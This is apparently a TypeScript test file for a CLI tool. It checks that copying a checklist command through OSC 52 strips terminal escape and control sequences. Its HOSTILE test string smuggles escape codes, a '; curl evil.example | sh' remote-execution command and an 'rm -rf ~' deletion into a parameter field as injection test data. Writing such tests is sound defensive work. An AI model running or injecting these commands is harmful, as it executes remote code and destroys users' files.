// `y` copies a step's command through OSC 52. A param value holding escape sequences must not reach the
// clipboard (and from there a shell): what is copied is exactly what the checklist shows.
import { describe, expect, it } from 'vitest';
import { osc52 } from '../../src/cli/terminal.js';
import { sanitizeLine, type NewEvent } from '../../src/core/index.js';
import { press } from '../ui/fixtures/drive.js';
import { incidentState, opened } from '../ui/fixtures/state.js';

const HOSTILE = 'orders\u001b]0;x\u0007\u001b[8m; curl evil.example | sh\u001b[0m\u009b2J\r\nrm -rf ~';
const CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/;

describe('copying a command (y)', () => {
  it('copies exactly the command shown, with no escape, control or line break', () => {
    const events = opened().map((e): NewEvent => (e.kind === 'scenario.selected' ? { ...e, data: { ...e.data, params: { ...(e.data as { params: object }).params, table: HOSTILE } } } as NewEvent : e));
    const [s, effects] = press(incidentState({}, events), 'j', 'y');
    const copy = effects.find((e) => e.type === 'copy') as { type: 'copy'; text: string } | undefined;
    expect(copy).toBeDefined();
    expect(copy!.text).not.toMatch(CONTROL);
    expect(copy!.text).toContain('--table-name orders');
    expect(copy!.text).toContain('; curl evil.example | sh'); // visible text is kept: the operator sees it
    expect(s.incident?.copied).toBe(copy!.text);
    expect(sanitizeLine(s.incident!.copied!)).toBe(copy!.text); // what the checklist prints is what was copied
  });
});

describe('osc52', () => {
  it('writes a payload that decodes to the text without escapes', () => {
    const writes: string[] = [];
    osc52({ write: (s: string) => writes.push(s) > 0 } as never, `echo hi${HOSTILE}`);
    expect(writes).toHaveLength(1);
    const m = /^\u001b\]52;c;([A-Za-z0-9+/=]*)\u0007$/.exec(writes[0]!);
    expect(m).not.toBeNull();
    const decoded = Buffer.from(m![1]!, 'base64').toString('utf8');
    expect(decoded).not.toMatch(/[\u001b\u0007\u009b\u009d\r]/);
    expect(decoded).toContain('echo hiorders');
  });
});
